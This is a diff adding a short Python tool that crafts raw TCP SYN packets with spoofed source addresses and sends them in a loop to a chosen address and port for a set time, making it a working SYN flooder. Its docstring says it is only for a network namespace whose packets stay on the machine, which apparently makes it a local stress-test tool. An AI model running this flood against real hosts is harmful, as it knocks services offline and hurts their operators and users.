@@ -1,0 +1,52 @@
+"""SYNs from addresses that do not exist, as fast as this process makes them.
+
+    python -m tools.live.flood ADDRESS PORT SECONDS
+
+Prints how many there were. Only for a namespace whose packets do not leave the machine.
+"""
+
+from __future__ import annotations
+
+import random
+import socket
+import struct
+import sys
+import time
+
+BATCH = 2000
+"""Different SYNs; each is sent again and again."""
+
+
+def syn(target: str, port: int) -> bytes:
+    """Make a SYN from a random address of TEST-NET-2 and a random port (RFC 5737)."""
+    source = socket.inet_aton(f"198.51.100.{random.randrange(1, 255)}")
+    there = socket.inet_aton(target)
+    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, 6, 0, source, there)
+    ports = random.randrange(1024, 65536), port
+    tcp = struct.pack(">HHIIBBHHH", *ports, random.getrandbits(32), 0, 0x50, 2, 1000, 0, 0)
+    pseudo = source + there + struct.pack(">BBH", 0, 6, len(tcp))
+    total = sum(struct.unpack(f">{len(pseudo + tcp) // 2}H", pseudo + tcp))
+    total = (total & 0xFFFF) + (total >> 16)
+    checksum = ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF
+    return ip + tcp[:16] + struct.pack(">H", checksum) + tcp[18:]
+
+
+def main() -> None:
+    """Send until the time is over."""
+    target, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
+    packets = [syn(target, port) for _ in range(BATCH)]
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    end, sent = time.monotonic() + seconds, 0
+    while time.monotonic() < end:
+        for packet in packets:
+            try:
+                raw.sendto(packet, (target, 0))
+                sent += 1
+            except OSError:
+                # the device is full: that is the rate there is
+                time.sleep(0.0005)
+    print(sent)
+
+
+if __name__ == "__main__":
+    main()
